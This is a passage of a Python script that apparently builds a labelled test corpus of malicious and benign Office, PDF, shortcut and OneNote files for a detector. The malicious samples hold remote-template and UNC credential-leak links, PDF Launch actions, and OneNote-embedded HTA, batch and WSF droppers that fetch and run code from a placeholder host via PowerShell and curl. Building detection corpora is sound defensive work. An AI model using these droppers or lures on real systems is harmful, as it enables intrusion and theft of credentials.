        z.writestr("_rels/.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>')
        z.writestr(rels_path, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + rels + '</Relationships>')
T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ooxmls = {
 "ooxml/template-http.docx": ("word/_rels/settings.xml.rels", f'<Relationship Id="rId1337" Type="{T}attachedTemplate" Target="http://{H}/t.dotm" TargetMode="External"/>'),
 "ooxml/template-order.docx": ("word/_rels/settings.xml.rels", f'<Relationship TargetMode="External" Target="https://{H}/office/t.dotm" Type="{T}attachedTemplate" Id="rId1"/>'),
 "ooxml/template-unc.docx": ("word/_rels/settings.xml.rels", f'<Relationship Id="rId1" Type="{T}attachedTemplate" Target="file:///\\\\{H}\\s\\t.dotm" TargetMode="External"/>'),
 "ooxml/frame-websettings.docx": ("word/_rels/webSettings.xml.rels", f'<Relationship Id="rId1" Type="{T}frame" Target="http://{H}/f.html" TargetMode="External"/>'),
 "ooxml/oleobject-mhtml.docx": ("word/_rels/document.xml.rels", f'<Relationship Id="rId99" Type="{T}oleObject" Target="mhtml:http://{H}/x.html!x-usc:http://{H}/x.html" TargetMode="External"/>'),
 "ooxml/template-singlequote.docx": ("word/_rels/settings.xml.rels", f"<Relationship Id='rId1' Type='{T}attachedTemplate' Target='http://{H}/t.dotm' TargetMode='External'/>"),
}
# --- PDF
def pdf(objs, trailer_extra=""):
    body = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(body))
        body += f"{i} 0 obj\n{o}\nendobj\n"
    x = len(body)
    body += f"xref\n0 {len(objs)+1}\n0000000000 65535 f \n" + "".join("%010d 00000 n \n" % o for o in offs)
    body += f"trailer\n<< /Size {len(objs)+1} /Root 1 0 R {trailer_extra}>>\nstartxref\n{x}\n%%EOF\n"
    return body
page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"
def annot(action): return f"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A {action} >>"
def withopen(action): return pdf([f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"])
def withlink(action): return pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, annot(action)])
pdfs = {
 "pdf/uri-unc.pdf": withlink(f"<< /S /URI /URI (\\\\\\\\{H}\\\\share\\\\a.pdf) >>"),
 "pdf/uri-file.pdf": withlink(f"<< /S /URI /URI (file://{H}/share/a.pdf) >>"),
 "pdf/uri-hexstring.pdf": withlink("<< /S /URI /URI <%s> >>" % (f"\\\\{H}\\share\\x.pdf".encode().hex())),
 "pdf/uri-name-escaped.pdf": withlink(f"<< /S /U#52I /U#52I (\\\\\\\\{H}\\\\s\\\\x) >>"),
 "pdf/uri-openaction-unc.pdf": withopen(f"<< /S /URI /URI (\\\\\\\\{H}\\\\share\\\\a.pdf) >>"),
 "pdf/gotor-unc.pdf": withopen(f"<< /S /GoToR /F (\\\\\\\\{H}\\\\share\\\\doc.pdf) /D [0 /Fit] >>"),
 "pdf/gotor-filespec.pdf": withlink(f"<< /S /GoToR /F << /Type /Filespec /FS /URL /F (http://{H}/doc.pdf) >> /D [0 /Fit] >>"),
 "pdf/gotoe-remote.pdf": withopen(f"<< /S /GoToE /F (\\\\\\\\{H}\\\\s\\\\e.pdf) /T << /R /C /N (a.pdf) >> >>"),
 "pdf/submitform.pdf": withopen(f"<< /S /SubmitForm /F << /FS /URL /F (http://{H}/collect) >> /Flags 4 >>"),
 "pdf/submitform-unc.pdf": withopen(f"<< /S /SubmitForm /F (\\\\\\\\{H}\\\\x) >>"),
 "pdf/importdata.pdf": withopen(f"<< /S /ImportData /F (\\\\\\\\{H}\\\\share\\\\a.fdf) >>"),
 "pdf/launch-escaped.pdf": withopen("<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"),
 "pdf/launch-hexall.pdf": withopen("<< /#53 /#4C#61#75#6E#63#68 /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>"),
 "pdf/launch-unix.pdf": withopen("<< /S /Launch /Unix << /F (/bin/sh) /P (-c id) >> >>"),
}

IDS2 = {"url": "T1187", "ooxml": "T1221", "pdf": "T1187"}
for k, v in list(M2.items()) + list(pdfs.items()):
    w(os.path.join(out, "malicious", k), v)
for k, (rp, r) in ooxmls.items():
    ooxml(os.path.join(out, "malicious", k), rp, r)
for k in list(M2) + list(ooxmls) + list(pdfs):
    cls, name = k.split("/")
    rows.append("%s\t%s\t%s" % (cls, "T1204.002" if name.startswith("launch") else IDS2[cls], name))

# ---- OneNote sections with attached files ([MS-ONESTORE]: the section GUID first; an attached
# file as a FileDataStoreObject, its name a UTF-16LE property), as the 2023 campaigns sent them
ONE_SECTION = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
ONE_FILE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
ONE_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")


def onenote(name, data):
    data = data.encode() if isinstance(data, str) else data
    label = name.encode("utf-16-le")
    body = ONE_SECTION + bytes(1008) + len(label).to_bytes(4, "little") + label + bytes(12)
    fdso = ONE_FILE + len(data).to_bytes(8, "little") + bytes(12) + data
    fdso += bytes(-len(fdso) % 8) + ONE_FOOTER
    return body + bytes(-len(body) % 8) + fdso + bytes(256)


HTA = ("<html><head><hta:application id=\"a\" windowstate=\"minimize\"/><script language=\"VBScript\">\n"
       "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr %s/p.ps1 | iex\", 0\nself.close\n"
       "</script></head></html>\n" % U)
ONE = {
    "invoice-hta.one": onenote("invoice.hta", HTA),
    "open-bat.one": onenote("open.bat", "@echo off\r\npowershell -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('%s')\"\r\n" % U),
    "scan-wsf.one": onenote("scan.wsf", "<job><script language=\"JScript\">new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c curl -o %%TEMP%%\\\\a.exe %s & %%TEMP%%\\\\a.exe\");</script></job>\n" % U),
    "doc-exe.one": onenote("Document.exe", b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)),
}
for k, v in ONE.items():
    w(os.path.join(out, "malicious", "onenote", k), v)
    rows.append("onenote\tT1204.002\t%s" % k)

# ---- benign look-alikes: a document made from a local template, hyperlinks (one to a share,
# which needs a click), shortcuts to a web site and to a local file, PDF links to the web and
# to a local file, a PDF with an ordinary attachment
os.makedirs(bout, exist_ok=True)
ooxml(f"{bout}/local-template.docx", "word/_rels/settings.xml.rels", f'<Relationship Id="rId1" Type="{T}attachedTemplate" Target="file:///C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm" TargetMode="External"/>')
ooxml(f"{bout}/local-template2.docx", "word/_rels/settings.xml.rels", f'<Relationship Id="rId1" Type="{T}attachedTemplate" Target="file:///C:/Program%20Files/Microsoft%20Office/Templates/Letter.dotx" TargetMode="External"/>')
ooxml(f"{bout}/hyperlinks.docx", "word/_rels/document.xml.rels", f'<Relationship Id="rId5" Type="{T}hyperlink" Target="https://www.debian.org/" TargetMode="External"/><Relationship Id="rId6" Type="{T}hyperlink" Target="file:///\\\\fileserver\\minutes\\2024.docx" TargetMode="External"/><Relationship Id="rId7" Type="{T}image" Target="media/image1.png"/>')
w(f"{bout}/debian.url", "[InternetShortcut]\r\nURL=https://www.debian.org/\r\nIconIndex=0\r\n")
w(f"{bout}/local.url", "[InternetShortcut]\nURL=file:///C:/Users/Public/Documents/readme.txt\n")
def pdf_b(objs):
    body = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(body))
        body += f"{i} 0 obj\n{o}\nendobj\n"
    x = len(body)
    body += f"xref\n0 {len(objs)+1}\n0000000000 65535 f \n" + "".join("%010d 00000 n \n" % o for o in offs)
    body += f"trailer\n<< /Size {len(objs)+1} /Root 1 0 R >>\nstartxref\n{x}\n%%EOF\n"
    return body
w(f"{bout}/link.pdf", pdf_b(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>", "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.debian.org/) >> >>"]))
w(f"{bout}/goto-local.pdf", pdf_b(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>", "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >> >>"]))
data = "name,amount\nrent,700\nfood,300\n"
w(f"{bout}/attachment.pdf", pdf_b(["<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(budget.csv) 5 0 R] >> >> /PageMode /UseAttachments >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>", f"<< /Type /EmbeddedFile /Subtype /text#2Fcsv /Length {len(data)} >>\nstream\n{data}\nendstream", "<< /Type /Filespec /F (budget.csv) /UF (budget.csv) /EF << /F 4 0 R >> /Desc (the figures) >>"]))
w(f"{bout}/minutes-png.one", onenote("whiteboard.png", b"\x89PNG\r\n\x1a\n" + bytes(300)))
w(f"{bout}/minutes-csv.one", onenote("budget.csv", data))

with open(os.path.join(out, "manifest.tsv"), "w") as f:
    f.write("\n".join(rows) + "\n")
print("%d malicious in %d classes, %d benign" % (len(rows), len(set(r.split("\t")[0] for r in rows)),
                                                  len(os.listdir(bout))))
